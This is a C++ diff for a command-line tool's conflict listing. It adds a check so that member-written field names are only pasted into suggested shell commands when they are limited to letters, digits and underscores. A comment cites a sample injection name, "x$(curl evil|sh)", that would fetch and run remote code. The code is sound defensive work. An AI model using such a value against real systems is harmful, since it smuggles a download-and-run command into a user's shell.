@@ -88,6 +88,38 @@ std::string JValue(const v1::Value& v) {
   }
 }
 
+// Whether `word` can stand in a shell command as it is: letters, digits and '_' only. Any member
+// can write any field name (1..64 bytes of UTF-8), so a name like "x$(curl evil|sh)" must never
+// reach a line the user copies into a shell.
+bool ShellSafe(const std::string& word) {
+  return !word.empty() && std::all_of(word.begin(), word.end(), [](char ch) {
+    return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') ||
+           ch == '_';
+  });
+}
+
+// The commands that resolve a conflict, one complete line per choice: "current|other" pasted
+// into a shell would be a pipe. The field's name only when it is safe to paste; otherwise the
+// general form, with the name to be taken from `kring conflicts --json`.
+void PrintResolveCommands(const Ctx& ctx, const std::string& entity_hex, const std::string& field) {
+  const bool hex =
+      !entity_hex.empty() && entity_hex.find_first_not_of("0123456789abcdef") == std::string::npos;
+  const std::string entity = hex ? entity_hex : "ID";
+  std::string named = field;
+  if (!hex || !ShellSafe(field)) {
+    std::cout << ctx.T(
+        "    Deze naam van het veld kan niet veilig in een opdracht. Neem hem uit "
+        "\"field\" van kring conflicts --json:\n",
+        "    This field's name cannot safely go into a command. Take it from "
+        "\"field\" of kring conflicts --json:\n");
+    named = ctx.T("VELD", "FIELD");
+  }
+  for (const char* keep : {"current", "other"}) {
+    std::cout << "      kring conflicts resolve --entity " << entity << " --field " << named
+              << " --keep " << keep << "\n";
+  }
+}
+
 int List(Ctx& ctx) {
   auto view = ctx.client.View(ctx.case_id);
   if (!view.ok()) return Fail(view.status());
@@ -151,9 +183,8 @@ int List(Ctx& ctx) {
               << Author(ctx, names, me->account_id, c.other_author_account_id())
               << ctx.T(", volgnummer ", ", sequence number ") << c.other_seq() << "\n"
               << ctx.T("    Kies de huidige (current) of de andere waarde (other):\n",
-                       "    Choose the current or the other value:\n")
-              << "      kring conflicts resolve --entity " << id << " --field " << c.field()
-              << " --keep current|other\n";
+                       "    Choose the current or the other value:\n");
+    PrintResolveCommands(ctx, id, c.field());
   }
   if (!values) {
     std::cout << ctx.T("De waarden zelf: kring conflicts --values",
